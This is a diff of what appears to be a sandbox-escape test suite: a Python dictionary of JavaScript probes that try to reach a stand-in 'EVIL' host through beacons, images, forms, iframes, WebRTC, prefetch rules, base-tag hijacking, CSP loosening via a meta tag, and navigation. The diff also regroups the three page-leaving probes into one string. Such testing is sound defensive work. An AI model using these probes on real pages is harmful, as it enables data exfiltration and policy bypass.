@@ -103,7 +103,6 @@ IN_THE_DOCUMENT = {
     "popup": "return open(EVIL + 'popup') ? 'opened' : ''",
     "named window": "return open(EVIL + 'named', '_top') ? 'opened' : ''",
     "link": "const a = document.createElement('a'); a.href = EVIL + 'link'; a.target = '_blank'; document.documentElement.append(a); a.click(); return ''",
-    "download": "const a = document.createElement('a'); a.href = EVIL + 'download'; a.download = 'x'; document.documentElement.append(a); a.click(); return ''",
     "form": "const f = document.createElement('form'); f.action = EVIL + 'form'; f.method = 'post'; f.target = '_blank'; document.documentElement.append(f); f.submit(); return ''",
     "image": "new Image().src = EVIL + 'image'; return ''",
     "picture in html": "const d = document.createElement('div'); d.innerHTML = `<img src='${EVIL}html' srcset='${EVIL}srcset'>`; document.documentElement.append(d); return ''",
@@ -129,8 +128,7 @@ IN_THE_DOCUMENT = {
     "frame in it": "const f = document.createElement('iframe'); f.src = EVIL + 'frame'; document.documentElement.append(f); return ''",
     "frame of home": "const f = document.createElement('iframe'); f.src = OWN; document.documentElement.append(f); await new Promise(done => setTimeout(done, 500)); return f.contentDocument?.title",
     "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + 'rules'] }] }); document.documentElement.append(s); return ''",
-    "base": "const b = document.createElement('base'); b.href = EVIL; document.documentElement.append(b); return document.baseURI === EVIL ? 'moved' : ''",
-    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = EVIL + 'ping'; document.documentElement.append(a); a.click(); return ''",
+    "base": "const b = document.createElement('base'); b.href = EVIL; document.documentElement.append(b); const is = document.baseURI === EVIL; b.remove(); return is ? 'moved' : ''",
     "beacon": "navigator.sendBeacon(EVIL + 'beacon', 'x'); return ''",
     "fetch": IN_THE_WORKER["fetch elsewhere"],
     "web rtc": """const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(EVIL).host }] });
@@ -144,7 +142,11 @@ IN_THE_DOCUMENT = {
     "geolocation": IN_THE_WORKER["geolocation"],
     "camera": "return String(await navigator.mediaDevices.getUserMedia({ video: true }))",
     "messages to the page": "for (const m of [{ port: 1 }, ['do', 'startOver'], 'hello', { type: 'api' }]) parent.postMessage(m, '*'); return ''",
-    "meta refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${EVIL}refresh`; document.head.append(m); return ''",
     "a looser policy": "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'connect-src *'; document.head.prepend(m); return (await fetch(EVIL + 'loose')).status",
-    "navigate itself": "location.href = EVIL + 'self'; return ''",
 }
+
+#: the last three, since whatever comes of them takes the document with it: no program is in the next one
+LEAVING = """const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${EVIL}refresh`;
+  document.head.append(m);
+  const a = document.createElement('a'); a.href = EVIL + 'download'; a.download = 'x'; a.ping = EVIL + 'ping'; document.documentElement.append(a); a.click();
+  location.href = EVIL + 'self'; return ''"""
